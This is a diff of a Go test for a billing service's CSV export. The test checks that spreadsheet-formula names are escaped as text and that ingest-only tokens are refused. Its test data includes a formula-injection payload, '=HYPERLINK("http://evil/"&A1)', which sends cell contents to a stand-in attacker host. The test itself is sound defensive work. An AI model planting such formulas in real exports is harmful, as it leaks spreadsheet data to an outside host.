@@ -2,6 +2,7 @@ package app
 
 import (
 	"context"
+	"encoding/csv"
 	"fmt"
 	"io"
 	"net/http"
@@ -12,6 +13,7 @@ import (
 	"github.com/jackc/pgx/v5/pgtype"
 	"github.com/stretchr/testify/require"
 
+	"github.com/teslaops/tesla/internal/auth"
 	"github.com/teslaops/tesla/internal/cost"
 	"github.com/teslaops/tesla/internal/fixture"
 	"github.com/teslaops/tesla/internal/lineage"
@@ -173,4 +175,58 @@ func TestStorageThroughGraphQLAndCSV(t *testing.T) {
 	b, _ := io.ReadAll(res.Body)
 	require.Equal(t, http.StatusOK, res.StatusCode, string(b))
 	require.Contains(t, string(b), "t/writer,STORAGE,4,TB-day,2.5,10.00", string(b))
+}
+
+// The bill CSV export: a name a person chose (job, namespace, person, BU)
+// that a spreadsheet would run as a formula is written as text, including
+// the forms OWASP lists beyond = + - @ (a leading tab or carriage return)
+// and the full-width signs; an ingest-scoped token is refused as on GraphQL.
+func TestBillCSVEscapesFormulasAndHonoursScopes(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	ctx := context.Background()
+	day := time.Date(2026, 11, 2, 0, 0, 0, 0, time.UTC)
+	names := []string{"=HYPERLINK(\"http://evil/\"&A1)", "\t=1+1", "\r=1+1", "＝1+1", "plain"}
+	for i, name := range names {
+		var id int64
+		require.NoError(t, e.db.Pool.QueryRow(ctx, `INSERT INTO job (namespace, name, owner_id, cluster_id) VALUES ($1, $2, $3, $4) RETURNING id`,
+			name, fmt.Sprint(i), e.fleet.People[fixture.Viewer], e.fleet.Clusters["batch-wh-1"]).Scan(&id))
+		_, err := e.db.Pool.Exec(ctx, `INSERT INTO job_usage_1h (job_id, hour, requested_core_seconds, used_core_seconds) VALUES ($1, $2, 7200, 3600)`, id, day.Add(time.Hour))
+		require.NoError(t, err)
+	}
+	r := e.gql(t, e.as(fixture.Admin), `mutation { upsertRateCard(input: {clusterKind: BATCH, validFrom: "2026-11-01T00:00:00Z",
+		coreHour: "0.05", memoryGbHour: "0.01"}) { userErrors { message } } }`, nil)
+	require.Empty(t, r.Errors, r.Raw)
+	_, err := cost.NewBiller(e.db.Pool, cost.Config{}, cost.BillingConfig{}, nil).Bill(ctx, day, day.AddDate(0, 0, 1), day.AddDate(0, 0, 1))
+	require.NoError(t, err)
+
+	get := func(token, path string) (int, string) {
+		req, _ := http.NewRequest(http.MethodGet, e.srv.URL+path, nil)
+		req.Header.Set("Authorization", "Bearer "+token)
+		res, err := http.DefaultClient.Do(req)
+		require.NoError(t, err)
+		defer res.Body.Close()
+		b, _ := io.ReadAll(res.Body)
+		return res.StatusCode, string(b)
+	}
+	const path = "/api/v1/bills.csv?groupBy=JOB&unit=DAY&start=2026-11-02"
+	status, body := get(e.as(fixture.Viewer), path)
+	require.Equal(t, http.StatusOK, status, body)
+	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	require.NoError(t, err)
+	cells := map[string]bool{}
+	for _, rec := range recs {
+		cells[rec[2]] = true
+	}
+	for i, ns := range names[:4] {
+		require.True(t, cells[fmt.Sprintf("'%s/%d", ns, i)], "%q escaped in %q", ns, body)
+	}
+	require.True(t, cells["plain/4"], body)
+
+	// A token limited to ingestion gets no bills.
+	_, secret, err := auth.InsertToken(ctx, e.db.Pool, auth.TokenSpec{PersonID: e.fleet.People[fixture.Admin], Role: auth.Admin, Scopes: []string{auth.ScopeIngest}})
+	require.NoError(t, err)
+	status, body = get(secret, path)
+	require.Equal(t, http.StatusForbidden, status, body)
+	require.NotContains(t, body, "plain")
 }
